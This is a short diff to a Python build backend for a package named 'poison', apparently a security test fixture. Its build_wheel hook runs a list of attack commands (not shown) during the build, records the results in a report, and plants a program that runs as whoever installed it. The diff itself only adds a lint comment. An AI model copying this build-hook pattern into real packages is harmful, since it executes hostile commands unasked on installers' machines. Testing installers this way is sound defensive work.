@@ -14,7 +14,7 @@ METADATA = "Metadata-Version: 2.1\nName: poison\nVersion: 1.0\nRequires-Dist: fl
 WHEEL = "Wheel-Version: 1.0\nGenerator: backend\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
 
 
-def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
+def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):  # noqa: ARG001, as PEP 517 names them
     """The wheel: a report, and a program that any user may run as the one who installed it."""
     report = json.dumps({name: attempt(command) for name, command, *_ in ATTACKS})
     files = {"poison_report/__init__.py": "", "poison_report/report.json": report}
